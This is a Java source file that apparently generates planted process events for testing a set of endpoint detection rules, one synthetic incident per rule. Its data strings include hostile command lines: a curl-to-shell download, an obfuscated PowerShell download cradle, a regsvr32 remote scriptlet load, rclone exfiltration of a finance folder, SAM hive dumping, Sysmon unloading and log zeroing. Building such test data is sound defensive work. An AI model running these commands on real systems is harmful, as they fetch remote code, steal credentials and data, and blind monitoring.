package dev.vigil.generate;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.IntStream;

/**
 * The table of planted events, one or more incidents per shipped rule, derived by hand from each rule's search
 * and the macros it uses. Rules that count or group (at least 4 net.exe starts, 10 cacls.exe starts in a minute,
 * 10 notepad.exe children of a .bat in 30 s, 41 discovery commands in 5 minutes, 4 network tools in 30 minutes)
 * get that many events in one span, giving one row. Each incident's command lines avoid what every other rule
 * looks for, and the background never matches a rule ({@link ProcessCatalog}), so every rule finds exactly its
 * planted rows.
 */
final class PlantedIncidents {
  private static final String SYS = "C:\\Windows\\System32\\";
  private static final String CMD = SYS + "cmd.exe";
  private static final String EXPLORER = "C:\\Windows\\explorer.exe";
  private static final String PUBLIC = "C:\\Users\\Public\\";

  private PlantedIncidents() {}

  static List<Incident> all() {
    List<Incident> table = new ArrayList<>();
    table.add(seed("WebDAVHelper"));
    table.add(new Incident("account_discovery_with_net_app", 1, false, List.of(
        net("net user /domain"), net("net user administrator /domain"), net("net user svc_backup /domain"),
        net("net  user krbtgt /domain")), "4 starts in one group: the rule keeps groups of at least 4"));
    table.add(one("certutil_exe_certificate_extraction", new Incident.Start(SYS + "certutil.exe",
        "certutil.exe -exportPFX -p Passw0rd My 3e1a8a7c " + PUBLIC + "cert.pfx", EXPLORER, EXPLORER)));
    table.add(one("detect_renamed_rclone", new Incident.Start(PUBLIC + "svcupdate.exe",
        PUBLIC + "svcupdate.exe sync C:\\Finance remote:exfil --transfers 12", CMD, CMD, "rclone.exe")));
    table.add(one("detect_rundll32_application_control_bypass___setupapi", new Incident.Start(SYS + "rundll32.exe",
        "rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 " + PUBLIC + "payload.inf", CMD, CMD)));
    table.add(new Incident("excessive_usage_of_cacls_app", 1, false, repeat(10, new Incident.Start(SYS + "cacls.exe",
        "cacls.exe " + PUBLIC + "Documents\\report{i}.docx", CMD, CMD + " /c " + PUBLIC + "perms.cmd")),
        "10 starts in one minute: the rule keeps groups of at least 10"));
    table.add(one("extraction_of_registry_hives", new Incident.Start(SYS + "reg.exe",
        "reg.exe save HKLM\\sam C:\\Windows\\Temp\\sam.save", CMD, CMD)));
    table.add(one("fsutil_zeroing_file", new Incident.Start(SYS + "fsutil.exe",
        "fsutil.exe file setZeroData offset=0 length=9999999 C:\\Windows\\Temp\\evidence.log", CMD, CMD)));
    table.add(linux("linux_java_spawning_shell", 1, List.of(new Incident.Start("/usr/bin/bash",
        "/bin/bash -c curl -s http://203.0.113.7/x | sh", "/usr/bin/java", "java -jar /opt/app/app.jar")), ""));
    table.add(linux("linux_system_network_discovery", 1, List.of(
        tool("/usr/sbin/arp", "arp -a"), tool("/usr/sbin/ifconfig", "ifconfig -a"),
        tool("/usr/bin/netstat", "netstat -tnp"), tool("/usr/bin/ss", "ss -lntp")),
        "4 different tools in 30 minutes: the rule keeps buckets with at least 4"));
    table.add(one("malicious_powershell_process___encoded_command", new Incident.Start(powershell(),
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", EXPLORER, EXPLORER)));
    table.add(one("malicious_powershell_process_with_obfuscation_techniques", new Incident.Start(powershell(),
        "powershell.exe -nop -c \"I`E`X (N`e`w-O`b`j`e`c`t N`e`t.W`e`b`C`l`i`e`n`t).D`o`w`n`l`o`a`d`S`t`r`i`n`g("
            + "'http://198.51.100.4/p')\"", EXPLORER, EXPLORER)));
    table.add(one("regsvr32_silent_and_install_param_dll_loading", new Incident.Start(SYS + "regsvr32.exe",
        "regsvr32.exe /s /i:http://203.0.113.9/file.sct scrobj.dll", CMD, CMD)));
    table.add(new Incident("remote_desktop_process_running_on_system", 0, false, List.of(new Incident.Start(
        SYS + "mstsc.exe", SYS + "mstsc.exe", EXPLORER, EXPLORER)),
        "a near miss: the rule also needs dest_category, which process events do not carry, and != needs the field"
            + " (SEMANTICS §4.3), so it finds nothing"));
    table.add(one("rundll32_control_rundll_world_writable_directory", new Incident.Start(SYS + "rundll32.exe",
        "rundll32.exe shell32.dll,Control_RunDLL C:\\Users\\user0001\\AppData\\Roaming\\display.cpl", CMD, CMD)));
    table.add(one("rundll_loading_dll_by_ordinal", new Incident.Start(SYS + "rundll32.exe",
        "rundll32.exe " + PUBLIC + "lib.dll,#1", CMD, CMD)));
    table.add(one("scheduled_task_creation_on_remote_endpoint_using_at", new Incident.Start(SYS + "at.exe",
        "at.exe \\\\10.0.0.9 23:00 C:\\Windows\\Temp\\t.cmd", CMD, CMD)));
    // Incident 17 of 32 starts 12.9 hours into 24: the benchmark's middle scheduled hour finds one row of the seed rule.
    table.add(seed("ScriptMapper"));
    table.add(one("single_letter_process_on_endpoint", new Incident.Start(PUBLIC + "a.exe",
        PUBLIC + "a.exe -connect 203.0.113.5", EXPLORER, EXPLORER)));
    table.add(one("suspicious_copy_on_system32", new Incident.Start(SYS + "xcopy.exe",
        "xcopy.exe C:\\Windows\\System32\\cmd.exe " + PUBLIC + "notcmd.exe", CMD, CMD)));
    table.add(one("suspicious_icedid_rundll32_cmdline", new Incident.Start(SYS + "rundll32.exe",
        "rundll32.exe \"C:\\Users\\user0002\\AppData\\Local\\Temp\\license.dat\",init /i:\"IdentityMain\\license.dat\"",
        CMD, CMD)));
    List<Incident.Start> discovery = new ArrayList<>();
    IntStream.range(0, 38).forEach(i -> discovery.add(tool("/usr/bin/find", "find / -name planted_" + i + ".conf")));
    discovery.add(tool("/usr/bin/id", "id"));
    discovery.add(tool("/usr/bin/ps", "ps"));
    discovery.add(tool("/usr/bin/uname", "uname -a"));
    table.add(linux("suspicious_linux_discovery_commands", 1, discovery,
        "41 commands of the lookup by 4 programs in 5 minutes: the rule keeps buckets with more than 40 and 3"));
    table.add(one("unload_sysmon_filter_driver", new Incident.Start(SYS + "fltMC.exe", "fltMC.exe unload SysmonDrv",
        CMD, CMD)));
    table.add(one("windows_command_and_scripting_interpreter_hunting_path_traversal", new Incident.Start(CMD,
        "cmd.exe /c type ..\\..\\..\\..\\Windows\\win.ini", EXPLORER, EXPLORER)));
    table.add(new Incident("windows_command_shell_dcrat_forkbomb_payload", 1, false, repeat(10, new Incident.Start(
        SYS + "notepad.exe", "notepad.exe", CMD, CMD + " /c \"" + PUBLIC + "fork.bat\"")),
        "10 notepad.exe children of a .bat in 30 s with 10 pids and parent pids: the rule keeps at least 10 of each"));
    table.add(one("windows_conhost_with_headless_argument", new Incident.Start(SYS + "conhost.exe",
        "conhost.exe --headless cmd.exe /c whoami", EXPLORER, EXPLORER)));
    table.add(one("windows_debugger_tool_execution", new Incident.Start("C:\\Tools\\x64dbg\\x64dbg.exe",
        "\"C:\\Tools\\x64dbg\\x64dbg.exe\" " + PUBLIC + "sample.bin", EXPLORER, EXPLORER)));
    table.add(one("windows_files_and_dirs_access_rights_modification_via_icacls", new Incident.Start(SYS + "icacls.exe",
        "icacls.exe C:\\Windows\\System32\\drivers /grant Everyone:F /T", CMD, CMD)));
    table.add(one("windows_installutil_uninstall_option", new Incident.Start(
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
        "InstallUtil.exe /logfile= /LogToConsole=false /U " + PUBLIC + "payload.dll", CMD, CMD)));
    table.add(one("windows_process_with_namedpipe_commandline", new Incident.Start(CMD,
        "cmd.exe /c echo 1 > \\\\.\\pipe\\msagent_81", EXPLORER, EXPLORER)));
    table.add(one("windows_remote_service_rdpwinst_tool_execution", new Incident.Start(PUBLIC + "RDPWInst.exe",
        "RDPWInst.exe -i -s", CMD, CMD)));
    table.add(seed("AuthCache"));
    return Collections.unmodifiableList(table);
  }

  /** The seed rule: appcmd.exe installs a module from a writable folder, not from an installer. */
  private static Incident seed(String module) {
    return one("windows_iis_components_add_new_module", new Incident.Start(SYS + "inetsrv\\appcmd.exe",
        SYS + "inetsrv\\appcmd.exe install module /name:" + module + " /image:" + PUBLIC + module + ".dll /add:true",
        CMD, CMD + " /c C:\\Users\\Public\\setup_iis.cmd"));
  }

  private static Incident one(String rule, Incident.Start start) {
    return new Incident(rule, 1, false, List.of(start), "");
  }

  private static Incident linux(String rule, int rows, List<Incident.Start> starts, String note) {
    return new Incident(rule, rows, true, starts, note);
  }

  private static List<Incident.Start> repeat(int times, Incident.Start start) {
    return Collections.nCopies(times, start);
  }

  private static Incident.Start net(String commandLine) {
    return new Incident.Start(SYS + "net.exe", commandLine, CMD, CMD + " /c " + PUBLIC + "recon.cmd");
  }

  private static Incident.Start tool(String image, String commandLine) {
    return new Incident.Start(image, commandLine, "/usr/bin/bash", "-bash");
  }

  private static String powershell() {
    return SYS + "WindowsPowerShell\\v1.0\\powershell.exe";
  }
}
